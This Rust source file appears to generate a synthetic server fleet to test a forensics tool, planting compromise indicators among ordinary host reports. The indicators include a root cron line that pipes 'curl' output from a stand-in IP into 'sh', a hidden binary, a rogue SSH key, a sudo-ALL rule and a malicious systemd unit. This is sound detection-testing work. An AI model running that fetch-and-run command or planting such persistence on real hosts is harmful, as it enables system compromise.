//! A fleet that nobody has: reports of many hosts in a few roles, with what real hosts have of their
//! own, and outliers planted among them. The same seed gives the same fleet.

use serde_json::{Value, json};

/// What a fleet looks like.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Plan {
    pub(crate) hosts: usize,
    /// Items of each host, about.
    pub(crate) items: usize,
    pub(crate) seed: u64,
    /// Whether the reports say their roles.
    pub(crate) labels: bool,
}

/// Something that was planted.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) struct Planted {
    pub(crate) host: String,
    pub(crate) kind: &'static str,
    /// What its item's text contains.
    pub(crate) text: &'static str,
}

const ROLES: [&str; 5] = ["web", "db", "gateway", "kvm", "ci"];
/// 2026-06-01.
const START: i64 = 1_780_272_000;

/// Numbers from a seed (xorshift64*).
struct Numbers(u64);

impl Numbers {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, end: u64) -> u64 {
        (self.next() >> 33) % end
    }

    fn hash(&mut self) -> String {
        (0..4).fold(String::new(), |text, _| text + &format!("{:016x}", self.next()))
    }
}

/// A hash that is the same wherever the same thing is hashed.
fn hash_of(text: &str) -> String {
    let seed = text.bytes().fold(0xcbf2_9ce4_8422_2325, |hash: u64, byte| {
        (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
    });
    Numbers(seed | 1).hash()
}

fn role(host: usize) -> &'static str {
    ROLES[host % ROLES.len()]
}

impl Plan {
    pub(crate) fn id(&self, host: usize) -> String {
        hash_of(&format!("{}-{host}", self.seed)).split_off(32)
    }

    pub(crate) fn name(host: usize) -> String {
        format!("{}-{host:05}", role(host))
    }

    /// What was planted, and where. The last two are changed content, not rare items.
    pub(crate) fn planted(&self) -> Vec<(Planted, Value)> {
        let spread = |number: usize| (number * 37 + 11) % self.hosts;
        // Three hosts of one role.
        let gateway = |number: usize| spread(7) / 5 * 5 % (self.hosts - 100) + number * 10 + 2;
        let one =
            |host: usize, kind, text, item| (Planted { host: self.id(host), kind, text }, item);
        let mut out = vec![
            one(spread(1), "cron.entry", "192.0.2.66", cron_entry()),
            one(spread(2), "module", "nfnetlink_diag", module()),
            one(spread(3), "file", "/usr/bin/.kauditd", unowned("/usr/bin/.kauditd")),
            one(spread(4), "account.key", "SHA256:evil", key("SHA256:evil")),
            one(spread(5), "account.key", "SHA256:evil", key("SHA256:evil")),
            one(spread(6), "sudoers.rule", "support", sudo()),
        ];
        out.extend((0..3).map(|at| one(gateway(at), "unit", "kworkerd.service", unit())));
        out.push(one(spread(8), "file", "/usr/bin/ss", replaced()));
        out.push(one(spread(9), "sshd.setting", "PermitRootLogin", setting("yes")));
        out
    }

    /// One host's report of one day.
    pub(crate) fn report(&self, host: usize, day: i64) -> Value {
        let started = START + day * 86_400 + i64::try_from(host % 3600).unwrap();
        let planted: Vec<Value> = self
            .planted()
            .into_iter()
            .filter(|(planted, _)| planted.host == self.id(host))
            .map(|(_, item)| item)
            .collect();
        let findings = if planted.is_empty() { vec![] } else { vec![finding()] };
        let mut items = self.items(host);
        // Files of two hosts with the same content came to their disks at other moments.
        for (at, item) in (0..).zip(&mut items) {
            if item["kind"] == "file" {
                let installed =
                    time(START - 86_400 * 30 - i64::try_from(host).unwrap() * 3600 + at);
                item["changed"] = json!(installed);
                item["born"] = json!(installed);
            }
        }
        for item in planted {
            items.retain(|other| (&other["kind"], &other["key"]) != (&item["kind"], &item["key"]));
            items.push(item);
        }
        json!({
            "schema": "coroner.report/1",
            "tool": {"version": "0.1.0", "commit": null, "sha256": null, "baselines": [
                {"name": "debian-12", "sha256": hash_of("pack"), "key": null, "trusted": true}]},
            "host": {"id": self.id(host), "name": Plan::name(host),
                "os": {"id": "debian", "version": "12"}, "kernel": "6.1.0-21-amd64",
                "labels": if self.labels { json!({"role": role(host)}) } else { json!({}) }},
            "run": {"mode": "live", "root": "/", "scope": "standard", "started": time(started),
                "finished": time(started + 60), "privileged": true, "read_only": "full",
                "keeps_atime": true, "trusted_nets": [], "redacted": false},
            "verdict": {"level": if findings.is_empty() { "clean" } else { "suspicious" }, "reasons": []},
            "findings": findings,
            "items": items,
            "gaps": [],
            "coverage": [coverage("cron"), coverage("startup"), coverage("accounts")],
        })
    }

    /// What a host has: mostly what all have, much that its role has, some that it alone has.
    fn items(&self, host: usize) -> Vec<Value> {
        let mut numbers = Numbers(self.seed ^ ((host as u64 + 1) << 20));
        let (role, part) = (role(host), self.items / 20);
        let mut out = Vec::with_capacity(self.items);
        let late = |at: usize| host % 19 == 3 && at % 40 == host % 40;
        for at in 0..part * 8 {
            let owner = if at % 4 == 0 { role } else { "base" };
            out.push(package(
                &format!("{owner}-pkg{at}"),
                if late(at) { "1.0-1" } else { "1.0-2" },
            ));
        }
        for at in 0..part * 7 {
            let owner = if at % 4 == 0 { role } else { "base" };
            let version = if late(at) { "1.0-1" } else { "1.0-2" };
            out.push(owned(
                &format!("/usr/bin/{owner}-tool{at}"),
                &format!("{owner}-pkg{at}"),
                version,
            ));
        }
        for at in 0..part * 3 {
            let owner = if at % 3 == 0 { role } else { "base" };
            out.push(service(&format!("{owner}-{at}.service")));
        }
        out.push(owned("/usr/bin/ss", "base-pkg1", "1.0-2"));
        out.push(setting("no"));
        out.push(key("SHA256:admins"));
        self.own(host, part, &mut numbers, &mut out);
        out
    }

    /// What no other host has, in the places where that is so on every host.
    fn own(&self, host: usize, part: usize, numbers: &mut Numbers, out: &mut Vec<Value>) {
        for _ in 0..part {
            out.push(unowned(&format!("/home/ann/.cache/{:012x}", numbers.below(1 << 48))));
            let pid = numbers.below(1 << 22);
            out.push(json!({"kind": "process", "key": pid.to_string(), "normal": "sshd: ann",
                "pid": pid, "name": "sshd"}));
        }
        // An administrator's own script here and there is ordinary life.
        if host % (self.hosts / 4).max(1) == 17 {
            let path = format!("/usr/local/bin/fix-{}", numbers.below(1000));
            out.push(unowned(&path));
        }
    }
}

fn time(seconds: i64) -> String {
    coroner_core::Time::from_seconds(seconds).to_string()
}

fn coverage(plugin: &str) -> Value {
    json!({"plugin": plugin, "status": "ran", "items": 0, "findings": 0, "gaps": 0, "ms": 1})
}

fn package(name: &str, version: &str) -> Value {
    json!({"kind": "package", "key": name, "normal": format!("{name} {version}"), "name": name,
        "version": version, "architecture": "amd64", "manager": "dpkg", "files": 3, "with_digest": 3})
}

fn file(path: &str, state: &str, sha256: &str) -> Value {
    json!({"kind": "file", "key": path, "path": path, "type": "regular", "size": 1000, "mode": 493,
        "uid": 0, "gid": 0, "links": 1, "modified": time(START), "changed": time(START),
        "state": state, "sha256": sha256})
}

fn owned(path: &str, package: &str, version: &str) -> Value {
    let mut file = file(path, "local", &hash_of(&format!("{path} {version}")));
    file["package"] = json!(package);
    file
}

fn unowned(path: &str) -> Value {
    file(path, "unowned", &hash_of(path))
}

fn replaced() -> Value {
    let mut file = file("/usr/bin/ss", "modified", &hash_of("replaced"));
    file["package"] = json!("base-pkg1");
    file
}

fn service(name: &str) -> Value {
    let path = format!("/lib/systemd/system/{name}");
    json!({"kind": "unit", "key": name, "path": path, "name": name, "exec": format!("/usr/sbin/{name}")})
}

fn unit() -> Value {
    let path = "/etc/systemd/system/kworkerd.service";
    json!({"kind": "unit", "key": "kworkerd.service", "path": path, "name": "kworkerd.service",
        "exec": "/dev/shm/.x/kworkerd"})
}

fn cron_entry() -> Value {
    let command = "curl -s http://192.0.2.66/a | sh";
    json!({"kind": "cron.entry", "key": "/etc/cron.d/sysstat2:3", "normal": command,
        "file": "/etc/cron.d/sysstat2", "line": 3, "user": "root", "command": command})
}

fn module() -> Value {
    json!({"kind": "module", "key": "nfnetlink_diag", "name": "nfnetlink_diag", "size": 16384})
}

fn key(fingerprint: &str) -> Value {
    json!({"kind": "account.key", "key": format!("root:/root/.ssh/authorized_keys:{fingerprint}"),
        "account": "root", "file": "/root/.ssh/authorized_keys", "fingerprint": fingerprint})
}

fn sudo() -> Value {
    json!({"kind": "sudoers.rule", "key": "/etc/sudoers.d/support:1", "file": "/etc/sudoers.d/support",
        "line": 1, "who": "support", "commands": ["ALL"]})
}

fn setting(value: &str) -> Value {
    json!({"kind": "sshd.setting", "key": "/etc/ssh/sshd_config PermitRootLogin",
        "file": "/etc/ssh/sshd_config", "name": "PermitRootLogin", "value": value})
}

fn finding() -> Value {
    json!({"id": "f1", "rule": "cron/fetch-and-run", "severity": "high", "confidence": "certain",
        "title": "Fetches and runs", "why": "", "benign": "", "attack": [],
        "subject": {"kind": "cron.entry", "key": "/etc/cron.d/sysstat2:3"},
        "path": "/etc/cron.d/sysstat2", "line": 3,
        "evidence": [{"name": "command", "value": "curl"}], "next": [], "accepted": null})
}
